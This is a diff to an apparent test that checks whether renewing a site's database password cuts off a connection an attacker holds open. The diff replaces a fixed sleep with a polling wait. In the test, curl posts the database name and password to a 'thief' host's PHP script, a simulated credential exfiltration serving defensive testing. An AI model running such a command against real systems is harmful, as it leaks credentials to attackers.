@@ -111,7 +111,8 @@ async def test_a_connection_that_somebody_holds_open_ends_with_the_password(
     write(thief, "public/tahan.php", HOLDS_ON)
     fields = f"--data-urlencode name={site.database} --data-urlencode password={revealed(site)}"
     to = f"--resolve {thief.name}:443:{web.address} -k -m 60 https://{thief.name}/tahan.php"
-    web.run(f"(curl -s {fields} {to} >/dev/null 2>&1 &) ; sleep 2")
+    web.run(f"(curl -s {fields} {to} >/dev/null 2>&1 &)")
+    in_home(thief, "timeout 20 sh -c 'until [ -s private/jejak ]; do sleep 0.1; done'")
     assert in_home(thief, "cat private/jejak") == "masuk"
     await renewed(site)
     assert in_home(thief, "sleep 1; cat private/jejak") == "putus"
